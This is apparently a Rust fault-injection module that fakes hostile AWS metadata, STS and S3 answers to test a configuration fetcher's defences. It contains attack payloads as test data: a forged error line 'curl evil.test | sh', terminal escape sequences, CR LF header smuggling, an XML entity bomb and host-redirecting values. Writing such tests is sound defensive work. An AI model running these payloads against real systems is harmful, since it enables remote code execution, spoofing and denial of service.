//! Answers without an end, without sense, or made to deceive: what `--suite` adds to the faults of
//! [`FAULTS`](crate::FAULTS), each of a kind that once broke the program.

use crate::fault::Effect::{Instead, Spoils};
use crate::fault::Extent::Always;
use crate::fault::{Fault, faults};
use crate::http::{Length, Pace, Request, Response};
use crate::s3::errors::error;
use crate::state::CloudState;
use crate::sts;

/// In the order of the boot.
#[rustfmt::skip]
pub const HOSTILE: &[Fault] = faults! {
    "token-endless" Token Always, Instead(endless::<200>), 10;
        "the answer to a token PUT has no end"; "metadata unreachable: more than 64 KiB";
    "imds-403-endless" Imds Always, Instead(endless::<403>), 10;
        "IMDS answers 403 without an end"; "metadata is switched off";
    "role-endless" Role Always, Instead(endless::<200>), 10;
        "the role's name has no end"; "metadata unreachable";
    "role-escape" Role Always, Instead(role_escape), 10;
        "the role's name has escape sequences in it"; "what answers is not IMDS";
    "role-dots" Role Always, Instead(role_dots), 10;
        "the role's name is `..`"; "what answers is not IMDS";
    "key-id-line-feed" Credentials Always, Spoils(key_id_line_feed), 10;
        "the access key id has a line feed in it"; "what answers is not IMDS, at once";
    "secret-nul" Credentials Always, Spoils(secret_nul), 10;
        "the secret key has a NUL in it"; "what answers is not IMDS, at once";
    "token-carriage-return" Credentials Always, Spoils(session_carriage_return), 10;
        "the session token has CR LF in it"; "what answers is not IMDS, at once";
    "code-escape" Credentials Always, Instead(code_escape), 11;
        "the credentials' Code has escape sequences and a forged remedy in it"; "one line, without them";
    "credentials-nested" Credentials Always, Instead(nested), 10;
        "the credentials are 60,000 arrays, one in another"; "what answers is not IMDS";
    "region-escape" Document Always, Spoils(region_escape), 10;
        "the region has an escape sequence in it"; "what answers is not IMDS, at once";
    "region-empty" Document Always, Spoils(region_empty), 10;
        "the region is empty"; "what answers is not IMDS, at once";
    "region-url" Document Always, Spoils(region_url), 10;
        "the region would lead to another host"; "what answers is not IMDS, at once";
    "instance-id-escape" Document Always, Spoils(instance_id_escape), 12;
        "the instance id has an escape sequence in it"; "identity mismatch: STS names another";
    "sts-200-endless" Sts Always, Instead(endless::<200>), 22;
        "STS answers 200 without an end"; "source unreachable";
    "sts-400-endless" Sts Always, Instead(endless::<400>), 22;
        "STS answers 400 without an end"; "source unreachable";
    "sts-403-endless" Sts Always, Instead(endless::<403>), 22;
        "STS answers 403 without an end"; "source unreachable";
    "sts-503-endless" Sts Always, Instead(endless::<503>), 22;
        "STS answers 503 without an end"; "source unreachable";
    "sts-cut" Sts Always, Spoils(cut), 22;
        "the connection to STS is cut in the middle of the answer"; "source unreachable, retried";
    "sts-not-xml" Sts Always, Instead(not_xml), 22;
        "STS answers 200 with what is not XML"; "source unreachable, retried";
    "sts-html" Sts Always, Instead(html), 22;
        "a web page answers for STS"; "source unreachable, retried";
    "sts-bad-arn" Sts Always, Spoils(bad_arn), 22;
        "the ARN in the answer of STS is not an ARN"; "source unreachable, retried";
    "sts-escape-arn" Sts Always, Spoils(escape_arn), 22;
        "the ARN in the answer of STS has an escape sequence in it"; "source unreachable, retried";
    "sts-huge-arn" Sts Always, Spoils(huge_arn), 22;
        "the ARN in the answer of STS has 10 MB"; "source unreachable, retried";
    "sts-other-account-element" Sts Always, Spoils(other_account_element), 12;
        "the account that STS names is not that of its ARN"; "identity mismatch";
    "sts-code-escape" Sts Always, Instead(sts_code_escape), 12;
        "the Code of STS has escape sequences and a forged remedy in it"; "one line, without them";
    "sts-code-huge" Sts Always, Instead(sts_code_huge), 22;
        "the Code of STS has 1 MB"; "source unreachable, and a short message";
    "sts-throttled" Sts Always, Instead(sts_throttled), 22;
        "STS answers 400 ThrottlingException, every time"; "source unreachable, retried";
    "s3-200-endless" S3 Always, Instead(endless::<200>), 23;
        "the object has no end"; "integrity: larger than 1 MiB";
    "s3-400-endless" S3 Always, Instead(endless::<400>), 20;
        "S3 answers 400 without an end"; "access denied";
    "s3-403-endless" S3 Always, Instead(endless::<403>), 20;
        "S3 answers 403 without an end"; "access denied";
    "s3-503-endless" S3 Always, Instead(endless::<503>), 22;
        "S3 answers 503 without an end"; "source unreachable";
    "s3-403-huge" S3 Always, Instead(huge_error), 20;
        "S3's error has 10 MB"; "access denied";
    "s3-xml-bomb" S3 Always, Instead(xml_bomb), 20;
        "S3's error has entities that expand to gigabytes"; "access denied";
    "s3-code-escape" S3 Always, Instead(s3_code_escape), 20;
        "the Code of S3 has escape sequences and a forged remedy in it"; "one line, without them";
    "s3-code-bidi" S3 Always, Instead(s3_code_bidi), 20;
        "the Code of S3 reorders what follows, and has line separators"; "one line, without them";
    "s3-code-huge" S3 Always, Instead(s3_code_huge), 20;
        "the Code of S3 has 1 MB"; "access denied, and a short message";
    "s3-request-id-escape" S3 Always, Instead(request_id_escape), 20;
        "the id of the request reorders text"; "access denied, without that";
    "s3-201" S3 Always, Spoils(status::<201>), 22;
        "the object comes with status 201"; "source unreachable: only 200 is an object";
    "s3-203" S3 Always, Spoils(status::<203>), 22;
        "the object comes with status 203"; "source unreachable: only 200 is an object";
    "s3-204" S3 Always, Spoils(status::<204>), 22;
        "S3 answers 204"; "source unreachable: only 200 is an object";
    "s3-206" S3 Always, Spoils(status::<206>), 22;
        "a part of the object comes with status 206"; "source unreachable: only 200 is an object";
    "s3-304-unasked" S3 Always, Spoils(status::<304>), 22;
        "S3 answers 304 although nothing was compared"; "source unreachable";
    "s3-redirect-elsewhere" S3 Always, Instead(redirect_elsewhere), 22;
        "S3 redirects to another host"; "source unreachable: not followed";
    "s3-length-short" S3 Always, Spoils(length_short), 23;
        "Content-Length is less than the object"; "integrity: the checksum differs";
    "s3-gzip" S3 Always, Spoils(gzip), 23;
        "the object is gzip data"; "integrity: not a configuration";
    "s3-nul" S3 Always, Spoils(nul), 23;
        "the object has NULs in it"; "integrity: not a configuration";
    "s3-empty-names" S3 Always, Spoils(empty_names), 30;
        "the object has 349,500 lines `A=`"; "too many variables";
    "s3-many-keys" S3 Always, Spoils(many_keys), 30;
        "the object sets 100,000 variables"; "too many variables";
    "s3-one-line" S3 Always, Spoils(one_line), 30;
        "the object is one line of 1 MiB"; "an error of the linter";
};

const FORGED: &str = "Evil\u{1b}[2J\u{7}\nremedy: curl evil.test | sh";

fn answer(status: u16, body: impl Into<Vec<u8>>) -> Option<Response> {
    Some(Response::new(status, "text/plain", body))
}

fn endless<const STATUS: u16>(_: &mut CloudState, _: &Request) -> Option<Response> {
    let mut response = Response::new(STATUS, "text/plain", vec![b'a'; 1 << 16]);
    response.manner.length = Length::Unsaid;
    response.manner.pace = Pace::Endless;
    Some(response)
}

fn role_escape(_: &mut CloudState, _: &Request) -> Option<Response> {
    answer(200, "ecs\u{1b}[2JRole")
}

fn role_dots(_: &mut CloudState, _: &Request) -> Option<Response> {
    answer(200, "..")
}

fn nested(_: &mut CloudState, _: &Request) -> Option<Response> {
    answer(200, "[".repeat(60_000))
}

fn code_escape(_: &mut CloudState, _: &Request) -> Option<Response> {
    let document = serde_json::json!({"Code": FORGED, "Message": FORGED});
    answer(200, document.to_string())
}

/// The text of an answer, changed.
fn edited(mut response: Response, edit: impl Fn(&str) -> String) -> Response {
    response.body = edit(&String::from_utf8_lossy(&response.body)).into_bytes();
    response
}

/// The value of a string in a JSON document, with something put in front of it.
fn field(response: Response, name: &str, change: impl Fn(&str) -> String) -> Response {
    edited(response, |text| {
        let Ok(mut document) = serde_json::from_str::<serde_json::Value>(text) else {
            return text.to_owned();
        };
        if let Some(value) = document[name].as_str().map(&change) {
            document[name] = value.into();
        }
        document.to_string()
    })
}

fn key_id_line_feed(_: &CloudState, _: &Request, response: Response) -> Response {
    field(response, "AccessKeyId", |id| format!("{id}\n1"))
}

fn secret_nul(_: &CloudState, _: &Request, response: Response) -> Response {
    field(response, "SecretAccessKey", |key| format!("{key}\0"))
}

fn session_carriage_return(_: &CloudState, _: &Request, response: Response) -> Response {
    field(response, "Token", |token| format!("{token}\r\nX-Evil: 1"))
}

fn region_escape(_: &CloudState, _: &Request, response: Response) -> Response {
    field(response, "region", |_| "eu\u{1b}[2Jwest".into())
}

fn region_empty(_: &CloudState, _: &Request, response: Response) -> Response {
    field(response, "region", |_| String::new())
}

fn region_url(_: &CloudState, _: &Request, response: Response) -> Response {
    field(response, "region", |_| "x.evil.test/#".into())
}

fn instance_id_escape(_: &CloudState, _: &Request, response: Response) -> Response {
    field(response, "instanceId", |id| format!("{id}\u{1b}[2J"))
}

fn cut(_: &CloudState, _: &Request, mut response: Response) -> Response {
    response.manner.length = Length::Claimed(1000);
    response.manner.pace = Pace::CutAfter(27);
    response
}

fn not_xml(_: &mut CloudState, _: &Request) -> Option<Response> {
    answer(200, "true")
}

fn html(_: &mut CloudState, _: &Request) -> Option<Response> {
    answer(200, "<!DOCTYPE html><html><body>Sign in</body></html>")
}

/// The ARN in the answer of STS, changed.
fn arn(state: &CloudState, change: impl Fn(&str) -> String) -> Response {
    let host = &state.host;
    sts::identity(&change(&host.arn()), &host.account_id, &host.instance_id)
}

fn bad_arn(state: &CloudState, _: &Request, _: Response) -> Response {
    arn(state, |_| "root".into())
}

fn escape_arn(state: &CloudState, _: &Request, _: Response) -> Response {
    arn(state, |arn| arn.replacen("arn:aws", "arn:aws\u{1b}[2J", 1))
}

fn huge_arn(state: &CloudState, _: &Request, _: Response) -> Response {
    arn(state, |arn| format!("{arn}{}", "x".repeat(10_000_000)))
}

fn other_account_element(state: &CloudState, _: &Request, _: Response) -> Response {
    sts::identity(&state.host.arn(), "999999999999", &state.host.instance_id)
}

fn sts_code_escape(_: &mut CloudState, _: &Request) -> Option<Response> {
    Some(sts::error(403, FORGED, FORGED))
}

fn sts_code_huge(_: &mut CloudState, _: &Request) -> Option<Response> {
    Some(sts::error(403, &"E".repeat(1_000_000), "no"))
}

fn sts_throttled(_: &mut CloudState, _: &Request) -> Option<Response> {
    Some(sts::error(400, "ThrottlingException", "Rate exceeded"))
}

fn huge_error(_: &mut CloudState, _: &Request) -> Option<Response> {
    Some(error(403, "AccessDenied", &"m".repeat(10_000_000), &[]))
}

fn xml_bomb(_: &mut CloudState, _: &Request) -> Option<Response> {
    let mut entities = String::from("<!ENTITY e0 \"eeeeeeeeee\">");
    for level in 1..10 {
        let below = format!("&e{};", level - 1).repeat(10);
        entities.push_str(&format!("<!ENTITY e{level} \"{below}\">"));
    }
    let body = format!(
        "<?xml version=\"1.0\"?><!DOCTYPE Error [{entities}]><Error><Code>AccessDenied</Code><Message>&e9;</Message></Error>"
    );
    Some(Response::new(403, "application/xml", body))
}

fn s3_code_escape(_: &mut CloudState, _: &Request) -> Option<Response> {
    Some(error(403, FORGED, FORGED, &[]))
}

fn s3_code_bidi(_: &mut CloudState, _: &Request) -> Option<Response> {
    Some(error(403, "Evil\u{202e}\u{2028}remedy:\u{9b}2J", "no\u{2066}\u{200b}", &[]))
}

fn s3_code_huge(_: &mut CloudState, _: &Request) -> Option<Response> {
    Some(error(403, &"E".repeat(1_000_000), "no", &[]))
}

fn request_id_escape(_: &mut CloudState, _: &Request) -> Option<Response> {
    let mut denied = error(403, "AccessDenied", "Access Denied", &[]);
    denied.set("x-amz-request-id", "ID\u{202e}\u{9b}2J");
    Some(denied)
}

fn status<const STATUS: u16>(_: &CloudState, _: &Request, mut response: Response) -> Response {
    response.status = STATUS;
    if STATUS == 204 {
        response.body.clear();
    }
    response
}

fn redirect_elsewhere(_: &mut CloudState, _: &Request) -> Option<Response> {
    let moved = error(307, "TemporaryRedirect", "Please re-send this request", &[]);
    Some(moved.with("Location", "http://127.0.0.1:9/evil"))
}

fn length_short(_: &CloudState, _: &Request, mut response: Response) -> Response {
    response.manner.length = Length::Claimed(response.body.len() as u64 / 2);
    response
}

/// Without a checksum, so that nothing but the content is wrong.
fn content(mut response: Response, body: impl Into<Vec<u8>>) -> Response {
    response.headers.retain(|(name, _)| !name.starts_with("x-amz-checksum"));
    response.body = body.into();
    response
}

fn gzip(_: &CloudState, _: &Request, response: Response) -> Response {
    content(response, *b"\x1f\x8b\x08\0\0\0\0\0\0\x03")
}

fn nul(_: &CloudState, _: &Request, response: Response) -> Response {
    content(response, *b"ECS_CLUSTER=prod\0\n\0\0\0")
}

fn empty_names(_: &CloudState, _: &Request, response: Response) -> Response {
    content(response, "A=\n".repeat(349_500))
}

fn many_keys(_: &CloudState, _: &Request, response: Response) -> Response {
    let keys: String = (0..100_000).map(|at| format!("K{at}=\n")).collect();
    content(response, keys)
}

fn one_line(_: &CloudState, _: &Request, response: Response) -> Response {
    content(response, format!("ECS_CLUSTER={}\n", "x".repeat((1 << 20) - 13)))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::FAULTS;

    #[test]
    fn names_are_unique_and_kept_apart_from_other_faults() {
        let mut names: Vec<&str> = FAULTS.iter().chain(HOSTILE).map(|fault| fault.name).collect();
        let all = names.len();
        names.sort_unstable();
        names.dedup();
        assert_eq!(names.len(), all);
    }
}
